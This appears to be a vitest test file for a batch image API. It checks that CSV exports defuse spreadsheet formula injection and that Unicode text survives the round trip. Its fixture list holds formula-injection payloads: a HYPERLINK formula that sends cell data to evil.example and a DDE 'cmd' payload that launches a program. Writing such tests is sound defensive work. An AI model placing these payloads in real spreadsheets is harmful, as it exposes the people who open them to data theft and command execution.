import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { FormData } from 'undici';
import { parseCsv } from '../../apps/api/src/intake/csv.ts';
import type { Json } from '../helpers/jobs.ts';
import { startSystem, type TestSystem } from '../helpers/system.ts';
import { manifest, postBatch } from '../helpers/batches.ts';
import { fetchPath, reviewLink } from '../helpers/reviews.ts';
import { callApi } from '../helpers/webhooks.ts';

/** client_refs a spreadsheet would run as formulas, and ordinary ones around them. */
const FORMULAS = [
  '=HYPERLINK("https://evil.example/x?"&A1,"Click")',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\tTAB',
  '\rCR',
  "=cmd|' /C calc'!A0",
];
const PLAIN = ['SKU-1', 'a=b', 'x-1'];

describe('formulas in the results CSV', () => {
  let system: TestSystem;
  let batchId: string;
  const refs = [...FORMULAS, ...PLAIN];

  beforeAll(async () => {
    // No worker: the manifest lists queued items, which is all these checks need.
    system = await startSystem({ workers: 0 });
    const items = refs.map((ref, i) => ({
      image_url: `https://images.example.com/p/${i}.jpg`,
      client_ref: ref,
      metadata: { note: ref },
    }));
    const created = await postBatch(system, { items });
    expect(created.status).toBe(202);
    batchId = created.body.id;
  });
  afterAll(async () => {
    await system?.close();
  });

  const clientRefs = (csv: string) => {
    const [header, ...rows] = parseCsv(csv);
    expect(header![0]).toBe('client_ref');
    return rows.map((row) => row[0]);
  };

  it('prefixes every cell that would start a formula with a quote mark, and leaves the others as they are', async () => {
    const csv = await manifest(system, batchId, 'csv');
    expect(csv.status).toBe(200);
    expect(clientRefs(csv.text)).toEqual([...FORMULAS.map((ref) => `'${ref}`), ...PLAIN]);
    // No line of the file starts a cell with a formula character.
    expect(csv.text.split(/\r\n/).some((line) => line.split(',').some((cell) => /^"?[=+\-@\t\r]/.test(cell)))).toBe(
      false,
    );
  });

  it('keeps the JSON lines byte for byte', async () => {
    const jsonl = await manifest(system, batchId, 'jsonl');
    const lines = jsonl.text.trimEnd().split('\n');
    const rows = lines.map((line) => JSON.parse(line) as Json);
    expect(rows.map((row) => row.client_ref)).toEqual(refs);
    expect(lines).toEqual(rows.map((row) => JSON.stringify(row)));
    for (const [i, ref] of refs.entries()) expect(lines[i]).toContain(`"client_ref":${JSON.stringify(ref)}`);
  });

  it('neutralises the same cells in the manifest a review link serves', async () => {
    const link = await reviewLink(system, 'batches', batchId);
    const csv = await fetchPath(system, `${link.path}/manifest?format=csv`);
    expect(csv.status).toBe(200);
    expect(clientRefs(csv.text)).toEqual([...FORMULAS.map((ref) => `'${ref}`), ...PLAIN]);
  });

  it('neutralises client_refs that came in through a CSV manifest', async () => {
    const form = new FormData();
    form.append(
      'manifest',
      new Blob(
        [
          'image_url,client_ref\r\nhttps://images.example.com/q/1.jpg,"=1+2"\r\nhttps://images.example.com/q/2.jpg,@A1\r\n',
        ],
        { type: 'text/csv' },
      ),
      'm.csv',
    );
    const created = await postBatch(system, form);
    expect(created.status).toBe(202);
    expect(clientRefs((await manifest(system, created.body.id, 'csv')).text)).toEqual(["'=1+2", "'@A1"]);
    expect((await manifest(system, created.body.id, 'jsonl')).text).toContain('"client_ref":"=1+2"');
  });
});

describe('text of batch items', () => {
  let system: TestSystem;

  beforeAll(async () => {
    system = await startSystem({ workers: 0 });
  });
  afterAll(async () => {
    await system?.close();
  });

  it('comes back as it was sent (a lone surrogate in a client_ref as U+FFFD), from a JSON body and a CSV manifest', async () => {
    const texts = [
      'Ünïcödé ✓ 商品',
      'emoji 🧥👟',
      'quote " backslash \\ slash /',
      'line\nbreak',
      '\u0000nul',
      'e\u0301',
    ];
    const lone = ['lone \ud800 high', 'lone \udfff low'];
    const items = [...texts, ...lone].map((text, i) => ({
      image_url: `https://images.example.com/t/${i}.jpg`,
      client_ref: text,
      metadata: { note: text, [text]: 'key' },
    }));
    const created = await postBatch(system, { items });
    expect(created.status).toBe(202);
    const expected = [...texts, 'lone \ufffd high', 'lone \ufffd low'];
    const rows = (await manifest(system, created.body.id, 'jsonl')).text
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line) as Json);
    expect(rows.map((row) => row.client_ref)).toEqual(expected);
    const jobs = await callApi(system, 'GET', `/v1/batches/${created.body.id}/jobs?limit=100`);
    // Metadata is stored as JSON text, in which a lone surrogate is an escape: it is kept.
    expect(jobs.body.data.map((job: Json) => job.metadata)).toEqual(
      [...texts, ...lone].map((text) => ({ note: text, [text]: 'key' })),
    );
    // A status poll reads the record through its own script: the same text.
    for (const [i, listed] of (jobs.body.data as Json[]).entries()) {
      const polled = await callApi(system, 'GET', `/v1/jobs/${listed.id}`);
      expect([polled.body.client_ref, polled.body.metadata]).toEqual([expected[i], listed.metadata]);
    }

    const form = new FormData();
    const csvText = texts.filter((text) => !text.includes('\u0000'));
    form.append(
      'manifest',
      new Blob(
        [
          `image_url,client_ref,note\r\n${csvText
            .map(
              (text, i) =>
                `https://images.example.com/c/${i}.jpg,"${text.replaceAll('"', '""')}","${text.replaceAll('"', '""')}"`,
            )
            .join('\r\n')}\r\n`,
        ],
        { type: 'text/csv' },
      ),
      'm.csv',
    );
    const fromCsv = await postBatch(system, form);
    expect(fromCsv.status).toBe(202);
    const csvRows = (await manifest(system, fromCsv.body.id, 'jsonl')).text
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line) as Json);
    expect(csvRows.map((row) => row.client_ref)).toEqual(csvText);
    const csvJobs = await callApi(system, 'GET', `/v1/batches/${fromCsv.body.id}/jobs?limit=100`);
    expect(csvJobs.body.data.map((job: Json) => job.metadata)).toEqual(csvText.map((text) => ({ note: text })));
  });
});
